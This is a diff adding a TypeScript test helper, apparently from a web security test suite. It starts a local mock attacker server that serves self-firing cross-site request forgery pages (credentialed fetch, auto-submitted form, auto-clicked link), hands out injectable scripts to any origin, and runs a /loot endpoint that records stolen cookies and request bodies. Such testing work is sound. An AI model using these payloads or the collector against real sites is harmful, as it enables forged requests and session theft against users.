@@ -1,0 +1,67 @@
+// The attacker's server on a port of its own: pages that attack whoever opens them, a script to inject into the lab's
+// page, and a collector of what that script sends. It is 127.0.0.1, the lab's own site, and localhost, another one.
+import { readFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { text } from 'node:stream/consumers';
+import { until } from '@scale-out-lab/launcher/testing/until';
+
+export interface Loot {
+  /** Of the request that brought it. */
+  readonly cookie: string;
+  readonly body: string;
+}
+
+export type Attacker = Awaited<ReturnType<typeof startAttacker>>;
+
+/** Pages that send a request to the target by themselves as soon as they are opened. */
+const pages = {
+  fetch: (target: string) =>
+    `<script>fetch('${target}', { method: 'POST', mode: 'no-cors', credentials: 'include' })</script>`,
+  form: (target: string) =>
+    `<form method="post" action="${target}"></form><script>document.forms[0].submit()</script>`,
+  link: (target: string) => `<a href="${target}">A prize!</a><script>document.links[0].click()</script>`,
+  // Tries to break the lab at the target, by itself and again at a click, when it may open windows.
+  hostile: (target: string) =>
+    `<button>A prize!</button><script type="module">
+      import { attack } from '/hostile.js';
+      const strike = (when) => attack('${target}', when);
+      document.querySelector('button').onclick = () => strike('clicked');
+      strike('opened');
+    </script>`,
+};
+
+/** Scripts that a page of any origin may import. */
+const scripts = ['injected.js', 'hostile.js'];
+
+export async function startAttacker() {
+  const loot: Loot[] = [];
+  const server = createServer(async (request, response) => {
+    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker');
+    const target = searchParams.get('target');
+    if (pathname === '/loot') {
+      loot.push({ cookie: request.headers.cookie ?? '', body: await text(request) });
+      response.end();
+    } else if (scripts.includes(pathname.slice(1))) {
+      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
+      response.end(await readFile(new URL(pathname.slice(1), import.meta.url)));
+    } else {
+      const page = Object.entries(pages).find(([name]) => pathname === `/${name}`)?.[1];
+      response.writeHead(page ? 200 : 404, { 'content-type': 'text/html' });
+      response.end(page && target ? page(target) : '');
+    }
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    /** Where the lab's site is too. */
+    sameSite: `http://127.0.0.1:${port}`,
+    otherSite: `http://localhost:${port}`,
+    /** All that has been brought, once there is so much of it. */
+    async collect(count: number): Promise<readonly Loot[]> {
+      await until(() => loot.length >= count);
+      return loot.splice(0);
+    },
+    stop: () => new Promise((resolve) => server.close(resolve).closeAllConnections()),
+  };
+}
